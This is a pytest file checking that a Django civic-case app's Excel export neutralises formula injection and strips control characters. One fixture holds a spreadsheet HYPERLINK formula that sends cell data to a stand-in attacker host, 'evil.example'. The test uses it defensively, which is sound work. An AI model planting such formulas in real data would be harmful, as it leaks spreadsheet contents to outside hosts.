"""The case Excel export through its download URL: safe cells (no live formulas, no illegal characters)."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from civicgrid.cases.exports import HEADERS

pytestmark = pytest.mark.django_db


def _body(response) -> bytes:
    return b"".join(response.streaming_content)


def _rows(body: bytes):
    ws = load_workbook(io.BytesIO(body)).worksheets[0]
    return ws, [list(r) for r in ws.iter_rows(values_only=True)]


def test_resident_text_is_exported_as_text_never_as_a_formula(client, world):
    """A resident types a formula into 随手拍; the dispatcher's export must show it as text."""
    evil = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
    world.to_state("accepted", description=evil, reporter_name="@SUM(1+1)", address="-2+3")
    world.to_state("accepted", description="+86 13800138000 来电", reporter_name="\t=1+1")
    client.force_login(world.dispatcher)
    r = client.get("/cases/export.xlsx")
    assert r.status_code == 200
    body = _body(r)
    sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the sheet
    ws, rows = _rows(body)
    desc, name, addr = HEADERS.index("问题描述"), HEADERS.index("反映人"), HEADERS.index("地址")
    texts = {(row[desc], row[name], row[addr]) for row in rows[1:]}
    assert (evil, "@SUM(1+1)", "-2+3") in texts
    for row in ws.iter_rows(min_row=2):
        cell = row[desc]
        assert cell.data_type == "s"
        if str(cell.value).startswith(("=", "+")):
            assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    # real numbers stay numbers
    lng = HEADERS.index("经度")
    assert all(isinstance(row[lng], float) for row in rows[1:] if row[lng] is not None)


def test_a_control_character_does_not_break_the_export(client, world):
    world.to_state("accepted", description="路灯不亮\x01\x08\x0b\x1f，请尽快处理", reporter_name="王\x00五")
    for user in (world.dispatcher, world.leader, world.grid_worker):
        client.force_login(user)
        r = client.get("/cases/export.xlsx")
        assert r.status_code == 200
        _, rows = _rows(_body(r))
        assert rows[1][HEADERS.index("问题描述")] == "路灯不亮，请尽快处理"
        assert rows[1][HEADERS.index("反映人")] == "王五"
